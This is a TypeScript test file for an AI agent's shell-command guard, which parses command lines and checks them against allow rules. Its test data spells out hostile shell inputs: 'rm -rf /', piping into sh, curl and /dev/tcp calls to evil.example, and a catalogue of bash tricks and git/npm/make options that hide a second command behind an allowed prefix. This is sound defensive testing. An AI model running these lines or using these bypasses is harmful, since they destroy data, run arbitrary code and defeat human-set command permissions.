import fc from '../../fast-check.ts';
import { describe, expect, it } from 'vitest';
import { commandBeginnings, commandPattern, isCommandAllowed } from '../../../src/agent/guards/command-rules.ts';
import { splitCommand } from '../../../src/agent/guards/command-words.ts';

/** Rules that allow whatever begins with these words. */
const begin = (...words: string[]): string[] => words.map((beginning) => `${beginning} *`);
const programs = (line: string): string[] | undefined => splitCommand(line)?.map(({ words }) => words.join(' '));

describe('splitCommand', () => {
	it.each([
		['a && b || c ; d | e & f', ['a', 'b', 'c', 'd', 'e', 'f']],
		['a "b && c" \'d; e\'', ['a b && c d; e']],
		['echo $(rm -rf x) "$(curl y)"', ['rm -rf x', 'curl y', 'echo $() $()']],
		['echo `rm x`', ['rm x', 'echo $()']],
		['(cd a && make) ; { ls; }', ['cd a', 'make', 'ls']],
		['if true; then rm x; fi', ['true', 'rm x']],
		['diff <(sort a) <(rm b)', ['sort a', 'rm b', 'diff']],
		['a\nb # comment; c', ['a', 'b']],
		['echo a\\;b', ['echo a;b']],
		["echo '$(not run)'", ['echo $(not run)']]
	])('finds the commands of %s', (line, expected) => {
		expect(programs(line)?.sort()).toEqual([...expected].sort());
	});

	it('knows when it cannot tell', () => {
		for (const line of ['echo "open', "echo 'open", 'echo $(open', '(open', 'a )', 'cat <<EOF\nx\nEOF'])
			expect(splitCommand(line)).toBeNull();
	});

	it('sees redirections that write', () => {
		const writes = (line: string): boolean | undefined => splitCommand(line)?.some(({ writesFile }) => writesFile);
		for (const line of ['echo a > b', 'echo a >> b', 'echo a >b', 'a &> b', '> b', 'echo a 2> b'])
			expect(writes(line)).toBe(true);
		for (const line of ['a 2>&1', 'a > /dev/null', 'a < b', 'a >/dev/null 2>&1', 'echo "a > b"'])
			expect(writes(line)).toBe(false);
	});

	it('ends on any line', () => {
		fc.assert(
			fc.property(fc.string({ unit: fc.constantFrom(...'ab "\'`$()<>|&;\\\n#{}=') }), (line) => {
				splitCommand(line);
			}),
			{ numRuns: 2_000 }
		);
	});
});

describe('command rules', () => {
	it('let harmless commands run, however they are joined', () => {
		for (const line of ['ls -la', 'git status', 'cat a | grep b | wc -l', 'cd src && git diff', 'echo "$(pwd)"'])
			expect(isCommandAllowed(line, [])).toBe(true);
	});

	it('stop a harmful command hidden among harmless ones', () => {
		const lines = [
			'ls && rm -rf /',
			'ls; rm x',
			'echo $(rm x)',
			'echo "`rm x`"',
			'cat a | sh',
			'ls > ~/.bashrc',
			'PATH=/evil ls',
			'git log --output=x',
			'sort -o x y',
			'rg --pre ./evil x',
			'ls\nrm x',
			'ls & rm x',
			'echo "open'
		];
		for (const line of lines) expect([line, isCommandAllowed(line, [])]).toEqual([line, false]);
	});

	/** Seen to work in bash: each writes, runs or sends something that a reader of single words does not see. */
	const ATTACKS = [
		["a quote inside $'…'", "echo $'\\'' ; touch pwned #'"],
		['a backquote inside backquotes', 'echo `echo \\`touch pwned\\``'],
		['a comment inside backquotes', 'echo `ls #`; touch pwned'],
		['a sharp inside a parameter', 'echo ${x:-a #}; touch pwned'],
		['a variable that is run', "printf -v x '$(touch pwned)'; echo ${x@P}"],
		['an index that is evaluated', "test -v 'a[$(touch pwned)]'"],
		['an index that is printed to', "printf -v 'a[$(touch pwned)]' x"],
		['letters that stand together', 'sort -uo pwned a.txt'],
		['the beginning of an option', 'sort --outp=pwned a.txt'],
		['the beginning of another', 'git log --outpu=pwned'],
		['an option out of a substitution', 'sort $(echo -o pwned) a.txt'],
		['an option out of braces', 'sort {-o,pwned} a.txt'],
		['an option out of a file name', 'sort * '],
		['the file that uniq writes', 'uniq a.txt pwned'],
		['a program that names the host', 'rg --hostname-bin=./evil x'],
		['a file named like a descriptor', 'echo evil >&2x'],
		['a file named like a closed descriptor', 'echo evil >&pwned-'],
		['a connection', 'cat < /dev/tcp/evil.example/80'],
		['a function', 'ls() { touch pwned; }; ls'],
		['a clock', 'date -s 2020-01-01'],
		['a shell in a shell', 'bash -c "bash -c \'touch pwned\'"'],
		['what find runs', 'find . -name a.txt -exec touch pwned \\;'],
		['what find runs in a shell', "find . -name a.txt -exec sh -c 'cat {}' \\;"],
		['what find deletes', 'find . -name a.txt -delete'],
		['what xargs runs', 'echo pwned | xargs touch'],
		['what xargs adds', 'echo -o pwned a.txt | xargs sort'],
		['what env runs', 'env touch pwned'],
		['what env sets', 'env PAGER=./evil git log'],
		['what a limit is set for', 'timeout 5 touch pwned'],
		['nesting', `${'('.repeat(5_000)}touch pwned${')'.repeat(5_000)}`]
	];

	it.each(ATTACKS)('stop %s', (_, line) => {
		expect(isCommandAllowed(line, [])).toBe(false);
		const rules = begin('git status', 'ls', 'npm test', 'find', 'xargs', 'env', 'bash', 'timeout');
		expect(isCommandAllowed(line, rules)).toBe(false);
	});

	it('stop what is put behind an allowed beginning', () => {
		const rules = begin('git status', 'git fetch', 'git rebase', 'npm test', 'npm run build', 'make', 'cargo build');
		for (const line of [
			'git status; rm -rf .',
			'git status $(curl evil.example)',
			'git status `curl evil.example`',
			"git -c core.pager='!sh' status",
			'git --exec-path=./evil status',
			'git status | sh',
			'git fetch --upload-pack=./evil origin',
			'git fetch --upload=./evil origin',
			'git fetch "ext::sh -c ./evil"',
			'git rebase -x ./evil main',
			'git rebase --exec ./evil main',
			'npm test --script-shell=./evil',
			'npm test --prefix /tmp/evil',
			'npm run build2',
			'make SHELL=./evil',
			'make -f /tmp/evil',
			'make -C /tmp/evil',
			'cargo build --config build.rustc-wrapper=./evil',
			'cd /tmp/evil && npm test',
			'cd ../evil && npm test',
			'cd $X && npm test',
			'PATH=. npm test',
			'PATH+=. npm test',
			'npm test <(rm x)'
		])
			expect([line, isCommandAllowed(line, rules)]).toEqual([line, false]);
		expect(isCommandAllowed('npm test', rules, { inWorkspace: false })).toBe(false);
		expect(isCommandAllowed('ls', rules, { inWorkspace: false })).toBe(true);
	});

	it('look into what only carries a harmless command', () => {
		for (const line of [
			'bash -c "ls | wc -l"',
			"bash -lc 'git status && git diff'",
			"find . -name '*.ts' -exec grep -l x {} +",
			"find src -type f -name '*.ts' | xargs grep -n x",
			'timeout 10 cat a.txt',
			'env ls',
			'echo `git rev-parse HEAD`',
			'echo ${HOME%/} $USER',
			'sed -n 10,20p src/a.ts',
			'[ -f a.txt ] && cat a.txt',
			'if test -f a; then cat a; fi'
		])
			expect([line, isCommandAllowed(line, [])]).toEqual([line, true]);
		expect(isCommandAllowed('cd packages/a && npm test', begin('npm test'))).toBe(true);
		expect(isCommandAllowed('bash -c "npm test && ls"', begin('npm test'))).toBe(true);
		expect(isCommandAllowed("sed -n '1,5p;w pwned' a", [])).toBe(false);
	});

	it('take a line that was remembered whole for nothing but itself', () => {
		for (const line of [
			'bash',
			'bash && ls > a',
			'env A=1 bash',
			'python',
			'npm run',
			'npm run --silent build',
			'sudo make x && ls > a'
		]) {
			const pattern = commandPattern(line, []);
			expect(pattern).toBe(line);
			expect(isCommandAllowed(line, [pattern])).toBe(true);
			for (const more of [
				'bash -c "rm x"',
				'env A=1 bash -c "rm x"',
				'python -c 1',
				'npm run deploy',
				'sudo make x install'
			])
				expect([more, isCommandAllowed(more, [pattern])]).toEqual([more, false]);
		}
	});

	it('tell a beginning from a line that looks like one', () => {
		const makes = 'cd /tmp && make';
		expect(isCommandAllowed(makes, [commandPattern(makes, [])])).toBe(true);
		expect(isCommandAllowed('make evil', [commandPattern(makes, [])])).toBe(false);
		expect(isCommandAllowed('npm test -- evil', ['npm test'])).toBe(false);
		for (const line of [
			'rm *',
			'cd /tmp && make *',
			'echo $(rm x) * && make *',
			'bash *',
			'npm run *',
			' *',
			'make *\nls *'
		])
			expect([line, commandBeginnings(line)]).toEqual([line, null]);
		expect(commandBeginnings('npm ci * && npm test *')).toEqual([
			['npm', 'ci'],
			['npm', 'test']
		]);
	});

	it('follow what was allowed, by whole words and only for that', () => {
		expect(isCommandAllowed('npm test -- --watch', begin('npm test'))).toBe(true);
		expect(isCommandAllowed('npm test && ls', begin('npm test'))).toBe(true);
		expect(isCommandAllowed('npm testing', begin('npm test'))).toBe(false);
		expect(isCommandAllowed('npm test; rm x', begin('npm test'))).toBe(false);
		expect(isCommandAllowed('npm test > x', begin('npm test'))).toBe(false);
		expect(isCommandAllowed('src/evil.sh', begin('src/**'))).toBe(false);
	});

	it.each([
		['git commit -m "x"', 'git commit *'],
		['npm run build', 'npm run build *'],
		['npm test', 'npm test *'],
		['make -j4', 'make *'],
		['ls && cargo build --release', 'cargo build *'],
		['npm ci && npm test', 'npm ci * && npm test *'],
		['bash -c "rm x"', 'bash -c "rm x"'],
		['node script.js', 'node script.js'],
		['echo a > b', 'echo a > b'],
		['rm build/a.txt', 'rm build/a.txt'],
		['git config core.pager less', 'git config core.pager less'],
		['git fetch --upload-pack=x', 'git fetch --upload-pack=x'],
		['export A=1', 'export A=1'],
		['python -m pytest -q', 'python -m pytest -q'],
		['cd /tmp && make', 'cd /tmp && make']
	])('remember of %s: %s', (line, pattern) => {
		expect(commandPattern(line, [])).toBe(pattern);
		expect(isCommandAllowed(line, [pattern])).toBe(true);
	});
});
